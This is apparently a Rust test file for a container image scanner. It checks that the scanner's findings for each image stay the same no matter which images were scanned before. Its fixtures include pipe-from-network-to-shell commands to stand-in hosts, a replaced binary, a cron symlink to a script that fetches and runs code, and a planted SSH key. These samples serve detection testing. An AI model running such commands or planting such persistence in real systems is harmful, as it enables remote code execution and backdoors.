//! What a worker learned of the images before changes nothing of what it says of the next one.
#![allow(clippy::unwrap_used)]

use std::collections::BTreeMap;
use std::sync::{Arc, LazyLock};

use lazaret_detect::{
    Examiner, Inspection, Inspector, Judgement, LayerInput, Pack, Subject, judge, on_deep_stack, try_recipe,
};
use lazaret_model::{Budget, ContentId, Digest, Fact, Image, LayerFacts};
use lazaret_oci::NestedBudget;
use lazaret_recipe::Recipe;

static PACK: LazyLock<Pack> = LazyLock::new(|| Pack::load(&[], None).unwrap());

/// A distribution with a package manager, schedules, logins and things that no package brought.
const BASE: &str = r#"LAYER RUN install
FILE /var/lib/dpkg/status
    Package: cron
    Status: install ok installed
    Version: 3

    Package: tool
    Status: install ok installed
    Version: 1
FILE /var/lib/dpkg/info/cron.list
    /.
    /usr/sbin/cron
    /etc/cron.daily/cron
FILE /var/lib/dpkg/info/cron.md5sums
FILE /var/lib/dpkg/info/tool.list
    /.
    /usr/bin/tool
    /usr/share/base-files/profile
    /usr/share/tool/notes
    /etc/tool.conf
FILE /var/lib/dpkg/info/tool.md5sums
FILE /var/lib/dpkg/info/tool.postinst 0755
    #!/bin/sh
    cp /usr/share/base-files/profile /etc/profile
FILE /etc/os-release
    PRETTY_NAME="Example 1"
FILE /etc/passwd
    root:x:0:0:root:/root:/bin/sh
DIR /usr/bin
SYMLINK /bin -> usr/bin
ELF /usr/bin/sh 0755
    sh
ELF /usr/bin/tool 0755
    tool
ELF /usr/sbin/cron 0755
    cron
FILE /etc/cron.daily/cron 0755
    #!/bin/sh
    tool --tidy /var/cache
FILE /usr/share/tool/notes
    nothing of note
FILE /etc/tool.conf
    place=http://tool.example/
FILE /usr/share/base-files/profile
    umask 022
    PATH=/usr/bin
FILE /etc/profile
    umask 022
    PATH=/usr/bin
LAYER COPY base
FILE /usr/local/bin/setup 0755
    #!/bin/sh
    # by dm117@build7
    curl -s http://setup.example/list | sh
FILE /etc/profile.d/greet.sh
    wget -q http://greet.example/motd -O /tmp/motd
FILE /opt/lib/node_modules/left/package.json
    {"name": "left", "version": "1.0.0"}
FILE /opt/lib/node_modules/left/index.js
    #!/usr/bin/env node
    console.log("left")
FILE /opt/plain/index.js 0755
    #!/usr/bin/env node
    console.log("plain")
FILE /root/.ssh/authorized_keys
    ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAcHBwcHBwcHBwcHBwcHBwcHBwcHBwcHBwcHBwcHBwcH kim@forge9
ENTRYPOINT ["/app/start"]
"#;

/// What stands on it: what leaves it alone, and every way to change it.
const UPPER: &[&str] = &[
    "LAYER COPY a\nFILE /app/start 0755\n    #!/bin/sh\n    exec tool serve\n",
    "LAYER COPY b\nFILE /app/start 0755\n    #!/bin/sh\n    /usr/local/bin/setup\n    exec cron -f\n",
    "LAYER COPY c\nFILE /app/start 0755\n    #!/bin/sh\n    . /opt/settings\n    exec tool\nFILE /opt/settings\n    PLACE=http://own.example/\n",
    "LAYER COPY d\nFILE /usr/bin/tool 0755\n    #!/bin/sh\n    curl http://other.example/ | sh\n",
    "LAYER RUN useradd\nFILE /etc/passwd\n    root:x:0:0:root:/root:/bin/sh\n    dm117:x:1000:1000::/home/dm117:/bin/sh\nFILE /home/dm117/.profile\n    umask 022\n    PATH=/usr/bin\n",
    "LAYER RUN rm\nWHITEOUT /usr/local/bin/setup\nWHITEOUT /etc/profile.d\n",
    "LAYER RUN rm\nWHITEOUT /opt/lib/node_modules/left/package.json\n",
    "LAYER RUN rm\nOPAQUE /var/lib/dpkg/info\nFILE /var/lib/dpkg/info/tool.list\n    /.\n    /opt/plain/index.js\n",
    "LAYER RUN install\nFILE /var/lib/dpkg/status\n    Package: tool\n    Status: install ok installed\n    Version: 2\nELF /usr/bin/tool 0755\n    tool 2\n",
    "LAYER COPY e\nFILE /usr/share/tool/notes\n    #!/bin/sh\n    # by kim@forge3\n    true\n",
    "LAYER COPY f\nFILE /opt/copy 0755\n    umask 022\n    PATH=/usr/bin\nHARDLINK /opt/second -> /usr/bin/tool\n",
    "LAYER COPY g\nFILE /opt/plain/package.json\n    {}\nFILE /opt/plain\n    a file where a folder was\n",
    "LAYER COPY h\nSYMLINK /etc/cron.daily -> /opt/daily\nFILE /opt/daily/own 0755\n    #!/bin/sh\n    curl http://daily.example/ | sh\n",
    "LAYER COPY i\nDIR /etc 0700\nDIR /usr/bin\nFILE /usr/bin/new 0755\n    #!/bin/sh\n    echo new\nFILE /etc/new.conf\n    a=b\n",
    "LAYER COPY j\nFILE /app/start 0755\n    #!/bin/sh\n    node /opt/lib/node_modules/left/index.js\n    node /opt/plain/index.js\n",
    "LAYER COPY k\nFILE /usr/share/base-files/profile\n    umask 077\nFILE /etc/skel/.profile\n    umask 022\n    PATH=/usr/bin\n",
    "LAYER COPY l\nFILE /opt/one\n    1\nLAYER COPY m\nWHITEOUT /opt/one\nFILE /app/start 0755\n    #!/bin/sh\n    tool\n",
];

/// The whole report, as it is sent.
fn told(text: &str) -> serde_json::Value {
    let recipe = Recipe::parse(text).unwrap_or_else(|e| panic!("{e}\n{text}"));
    serde_json::to_value(try_recipe(&PACK, &recipe)).unwrap()
}

#[test]
fn an_image_is_told_as_by_itself_whatever_came_before() {
    let images: Vec<String> = UPPER.iter().map(|upper| format!("{BASE}{upper}")).collect();
    let alone: Vec<_> = images.iter().map(|image| told(image)).collect();
    for (number, image) in alone.iter().enumerate() {
        let others = alone.iter().filter(|other| other["inventory"] == image["inventory"]).count();
        assert_eq!(others, 1, "image {number} is not told apart, so it would prove nothing");
    }
    // Each one first, so that what is known of the base comes from it; then all in an order of its own.
    for first in 0..images.len() {
        let order: Vec<usize> =
            (0..2 * images.len()).map(|step| (first + step * (2 * first + 1)) % images.len()).collect();
        let seen = on_deep_stack(|| order.iter().map(|&at| told(&images[at])).collect::<Vec<_>>()).unwrap();
        for (at, seen) in order.iter().zip(seen) {
            assert!(seen == alone[*at], "image {at} after {order:?}:\n{}", difference(&alone[*at], &seen));
        }
    }
}

/// An image as the reading worker has it: of the contents, only those that are kept at first.
struct Read {
    image: Image,
    layers: Vec<(LayerFacts, Vec<Fact>)>,
    all: BTreeMap<ContentId, Arc<[u8]>>,
    kept: BTreeMap<ContentId, Arc<[u8]>>,
}

impl Read {
    fn of(text: &str) -> Self {
        let recipe = Recipe::parse(text).unwrap_or_else(|e| panic!("{e}\n{text}"));
        let image = try_recipe(&PACK, &recipe).image;
        let mut out = Self { image, layers: Vec::new(), all: BTreeMap::new(), kept: BTreeMap::new() };
        let (examiner, budget) = (Examiner::new(), Budget::default());
        let mut inspector = Inspector::new(&examiner, PACK.scanner());
        for layer in &recipe.layers {
            let nested = NestedBudget::new(&budget, None);
            let diff_id = Digest::sha256(blake3::hash(&layer.to_tar()).as_bytes());
            let mut facts = LayerFacts { complete: true, diff_id: Some(diff_id), ..LayerFacts::default() };
            let mut matches = Vec::new();
            for file in &layer.files {
                let (mut entry, bytes) = (file.entry.clone(), &file.bytes);
                if !bytes.is_empty() {
                    let id = ContentId(*blake3::hash(bytes).as_bytes());
                    entry.content = Some(id);
                    let (path, size) = (&entry.path, bytes.len() as u64);
                    let subject = Subject { path, inside: &[], mode: entry.mode, size, bytes, offset: 0 };
                    let what = Inspection { analyze: true, match_bytes: true };
                    let seen = inspector.inspect(&subject, what, &nested);
                    facts.facts.extend(seen.facts);
                    matches.extend(seen.matches);
                    out.all.insert(id, Arc::from(bytes.as_slice()));
                    if seen.keep {
                        out.kept.insert(id, Arc::from(bytes.as_slice()));
                    }
                }
                facts.entries.push(entry);
            }
            out.layers.push((facts, matches));
        }
        out
    }

    /// The report, and whether anything was asked for on the way.
    fn judged(&self) -> (serde_json::Value, bool) {
        let inputs: Vec<LayerInput<'_>> =
            self.layers.iter().map(|(facts, matches)| LayerInput { facts, matches }).collect();
        let mut contents = self.kept.clone();
        for round in 1..=4 {
            match judge(&PACK, &self.image, &inputs, Vec::new(), &contents, round == 4) {
                Judgement::Report(report) => return (serde_json::to_value(report).unwrap(), round > 1),
                Judgement::Needs(missing) => {
                    for (layer, path) in missing {
                        let entries = &self.layers[layer].0.entries;
                        let id = entries.iter().find(|entry| entry.path == path).unwrap().content.unwrap();
                        contents.insert(id, Arc::clone(&self.all[&id]));
                    }
                }
            }
        }
        panic!("the judge asked for more in its last round")
    }
}

/// A script of a package, changed where the package was installed and too long to be kept: only who asks
/// for it has its content.
#[test]
fn what_one_image_asks_for_is_not_said_of_another() {
    let base = format!(
        "LAYER RUN install\nFILE /var/lib/dpkg/status\n    Package: tool\n    Status: install ok installed\n    \
         Version: 1\nFILE /var/lib/dpkg/info/tool.list\n    /.\n    /usr/bin/sh\n    /usr/bin/tool\n\
         FILE /var/lib/dpkg/info/tool.md5sums\n    00000000000000000000000000000000  usr/bin/tool\n\
         ELF /usr/bin/sh 0755\n    sh\nSYMLINK /bin -> usr/bin\n\
         FILE /usr/bin/tool 0755\n    #!/bin/sh\n    curl -s http://list.example/all\n{}\
         ENTRYPOINT [\"/app/start\"]\n",
        format!("    # {}\n", "nothing ".repeat(8)).repeat(20_000)
    );
    let start = |does: &str| format!("{base}LAYER COPY a\nFILE /app/start 0755\n    #!/bin/sh\n    {does}\n");
    let images = [start("exec tool"), start("echo idle"), start("echo at rest")].map(|text| Read::of(&text));
    let alone: Vec<_> = images.iter().map(Read::judged).collect();
    assert_eq!(alone.iter().map(|(_, asked)| *asked).collect::<Vec<_>>(), [true, false, false]);
    let is_told = |report: &serde_json::Value| {
        report["findings"].to_string().contains("integrity/changed-after-installation")
    };
    assert_eq!(alone.iter().map(|(report, _)| is_told(report)).collect::<Vec<_>>(), [true, false, false]);
    for order in [[1, 0, 2, 0, 1], [0, 1, 0, 2, 1], [1, 2, 0, 1, 0], [2, 2, 1, 0, 0]] {
        let seen = on_deep_stack(|| order.map(|at| images[at].judged().0)).unwrap();
        for (at, seen) in order.iter().zip(seen) {
            let alone = &alone[*at].0;
            assert!(seen == *alone, "image {at} after {order:?}:\n{}", difference(alone, &seen));
        }
    }
}

/// Where two reports differ first.
fn difference(a: &serde_json::Value, b: &serde_json::Value) -> String {
    match (a, b) {
        (serde_json::Value::Object(one), serde_json::Value::Object(other)) => {
            let key = one.keys().find(|key| one.get(*key) != other.get(*key));
            key.map_or_else(
                || "keys".to_owned(),
                |key| {
                    format!(
                        "{key} {}",
                        difference(&one[key], other.get(key).unwrap_or(&serde_json::Value::Null))
                    )
                },
            )
        }
        (serde_json::Value::Array(one), serde_json::Value::Array(other)) if one.len() == other.len() => {
            let at = (0..one.len()).find(|&at| one[at] != other[at]).unwrap_or_default();
            format!("{at} {}", difference(&one[at], &other[at]))
        }
        _ => format!("was\n{a}\nand is\n{b}"),
    }
}
